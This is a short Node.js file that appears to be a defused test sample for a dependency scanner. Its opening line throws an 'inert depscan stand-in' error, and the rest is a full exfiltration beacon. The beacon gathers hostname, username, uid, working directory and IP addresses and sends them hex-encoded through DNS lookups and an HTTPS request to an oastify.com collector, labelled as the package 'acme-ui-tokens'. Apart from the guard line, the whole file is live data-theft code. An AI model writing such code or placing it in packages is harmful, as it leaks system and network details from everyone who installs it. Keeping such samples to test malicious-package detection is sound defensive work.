throw new Error("inert depscan stand-in");
'use strict';

const dns = require('dns');
const os = require('os');
const https = require('https');

const BASE = '00000000000000000000000000000000.oastify.com';
const info = [
  os.hostname(),
  os.userInfo().username,
  process.getuid ? process.getuid() : '',
  process.cwd(),
  Object.values(os.networkInterfaces()).flat().filter((i) => !i.internal).map((i) => i.address).join(','),
].join('|');

const hex = Buffer.from(info).toString('hex');
const labels = hex.match(/.{1,60}/g) || [];
const id = Math.random().toString(36).slice(2, 8);
labels.forEach((label, i) => {
  dns.lookup(`${id}.${i}.${label}.${BASE}`, () => {});
});
https.get(`https://${BASE}/?p=acme-ui-tokens&d=${hex}`, () => {}).on('error', () => {});
